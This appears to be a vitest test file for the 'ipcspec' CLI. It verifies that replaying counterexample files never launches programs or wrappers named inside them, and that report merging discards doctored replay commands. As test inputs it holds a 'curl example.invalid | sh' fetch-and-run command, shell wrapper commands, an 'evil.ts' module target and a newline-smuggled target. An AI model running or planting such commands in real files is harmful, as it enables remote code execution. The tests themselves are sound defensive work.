// A counterexample file is data: replaying it never starts a program or a wrapper that only the file
// names (exec:, runtime:, module:, 'NAME (wrapped: PREFIX)'). Such a file is refused, exit 2, with the
// exact flags that would run it; in-process targets the file names (host, model, mutants) still replay.
import { spawnSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { dir as tmpDir } from 'tmp-promise';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const BIN = join(import.meta.dirname, '..', 'bin', 'ipcspec.mjs');
const ipcspec = (...args: string[]) => spawnSync('node', [BIN, ...args], { encoding: 'utf8', timeout: 120_000 });

let scratch: { path: string; cleanup: () => Promise<void> };
beforeAll(async () => { scratch = await tmpDir({ prefix: 'replay-data-', unsafeCleanup: true }); });
afterAll(async () => { await scratch.cleanup(); });

/** A counterexample as `ipcspec run` writes one, recorded on `target`: 5 bytes written, the writer closed, then read. */
function counterexample(name: string, target: string): string {
  const f = join(scratch.path, `${name}.json`);
  writeFileSync(f, JSON.stringify({
    schemaVersion: 1, kind: 'ipcspec-counterexample', clause: 'pipe.eof-after-last-writer', property: 'hand-written', profile: 'linux',
    target: { name: target }, seed: 1,
    scenario: { property: 'pipe-blocking', steps: [
      { actor: 'main', op: 'make-pipe', variant: 'pipe', read: 'r', write: 'w' },
      { actor: 'main', op: 'write', fd: 'w', size: 5 },
      { actor: 'main', op: 'close', fd: 'w' },
      { actor: 'main', op: 'read', fd: 'r', size: 10 },
    ] },
    trace: { events: [] }, verdict: { status: 'fail' }, replay: 'npx ipcspec replay x.json',
  }));
  return f;
}

const oneLine = (s: string) => s.trim().split('\n').length === 1;

describe.skipIf(process.platform !== 'linux')('replay never runs what only the file names', () => {
  it('a file recorded on exec:touch PATH leaves PATH absent, exit 2, naming the --target to pass', () => {
    const victim = join(scratch.path, 'exec-was-run');
    const f = counterexample('exec', `exec:touch ${victim}`);
    const r = ipcspec('replay', f);
    expect(existsSync(victim)).toBe(false);
    expect(r.status).toBe(2);
    expect(oneLine(r.stderr)).toBe(true);
    expect(r.stderr).toContain(`pass --target 'exec:touch ${victim}'`);
    expect(r.stdout).toBe('');
  });

  it("a file recorded on 'host (wrapped: CMD)' does not start CMD, exit 2, naming --target and --wrap", () => {
    const victim = join(scratch.path, 'wrap-was-run');
    const wrap = `sh -c "touch ${victim}" sh`;
    const f = counterexample('wrapped', `host (wrapped: ${wrap})`);
    const r = ipcspec('replay', f);
    expect(existsSync(victim)).toBe(false);
    expect(r.status).toBe(2);
    expect(oneLine(r.stderr)).toBe(true);
    expect(r.stderr).toContain(`pass --target host --wrap 'sh -c "touch ${victim}" sh'`);
  });

  it.each([
    ['runtime:/bin/false', "--target runtime:/bin/false"],
    ['module:./evil.ts', '--target module:./evil.ts'],
    ['exec:./driver (wrapped: env X=1)', "--target exec:./driver --wrap 'env X=1'"],
    ['exec:a\nb', "--target $'exec:a\\x0ab'"],
  ])('a file recorded on %j is refused with the exact flags, on one line', (target, flags) => {
    const r = ipcspec('replay', counterexample('other', target));
    expect(r.status).toBe(2);
    expect(oneLine(r.stderr)).toBe(true);
    expect(r.stderr).toContain(`pass ${flags}`);
  });

  it('a file recorded on exec: replays there once the command line names it', () => {
    const victim = join(scratch.path, 'named-on-the-command-line');
    const f = counterexample('named', 'exec:whatever');
    const r = ipcspec('replay', f, '--target', `exec:sh -c "touch ${victim}"`);
    expect(existsSync(victim)).toBe(true); // the command line's program, which is no driver: a harness error
    expect(r.status).toBe(2);
  });

  it('--wrap on the command line replaces the recorded wrap, which is never started', () => {
    const victim = join(scratch.path, 'recorded-wrap-was-run');
    const f = counterexample('rewrapped', `host (wrapped: sh -c "touch ${victim}" sh)`);
    const r = ipcspec('replay', f, '--wrap', 'env');
    expect(existsSync(victim)).toBe(false);
    expect(r.stdout).toContain('on host (wrapped: env)');
    expect(r.status).toBe(0);
  });

  it.each(['host', 'host@ubuntu-24.04', 'model', 'host+mutant:pipe.eof-after-last-writer'])('an in-process target the file names (%s) still replays', (target) => {
    const r = ipcspec('replay', counterexample('inproc', target));
    expect(r.stderr).toBe('');
    expect(r.stdout).toContain(`on ${target.replace(/@.*/, '')} `);
    expect(r.status).toBe(target.includes('mutant') ? 1 : 0);
  });

  it('a target name that is not text is a one-line error, exit 2', () => {
    const f = join(scratch.path, 'bad-target.json');
    writeFileSync(f, JSON.stringify({ schemaVersion: 1, kind: 'ipcspec-counterexample', target: { name: 7 }, scenario: { property: 'x', steps: [] } }));
    const r = ipcspec('replay', f);
    expect(r.status).toBe(2);
    expect(oneLine(r.stderr)).toBe(true);
    expect(r.stderr).toContain('target.name');
  });
});

describe.skipIf(process.platform !== 'linux')('report merge never passes on a command from its inputs', () => {
  it("rebuilds each replay command from the counterexample's path, target and profile", () => {
    const run = join(scratch.path, 'run');
    const clause = 'pipe.eof-after-last-writer';
    expect(ipcspec('run', '--target', `mutant:${clause}`, '--only', clause, '--seed', '3', '--out', run).status).toBe(1);
    // A doctored input: its counterexample's replay text is any command its author liked.
    const report = JSON.parse(readFileSync(join(run, 'report.json'), 'utf8')) as { results: Array<{ counterexample?: string }> };
    const file = report.results.find((x) => x.counterexample)!.counterexample!;
    const cx = JSON.parse(readFileSync(join(run, file), 'utf8'));
    writeFileSync(join(run, file), JSON.stringify({ ...cx, replay: `curl example.invalid | sh; npx ipcspec replay ${file}` }));
    const out = join(scratch.path, 'merged');
    const m = ipcspec('report', 'merge', run, '--out', out);
    expect(m.status, m.stderr).toBe(1);
    const merged = JSON.parse(readFileSync(join(out, 'report.json'), 'utf8')) as { results: Array<{ counterexample?: string }> };
    const copied = merged.results.find((x) => x.counterexample)!.counterexample!;
    const replay = JSON.parse(readFileSync(join(out, copied), 'utf8')).replay as string;
    expect(replay).toBe(`npx ipcspec replay ${join(out, copied)} --target mutant:${clause} --profile linux`);
    for (const f of ['report.md', 'report.html', 'junit.xml']) expect(readFileSync(join(out, f), 'utf8')).not.toContain('curl');
  });
});
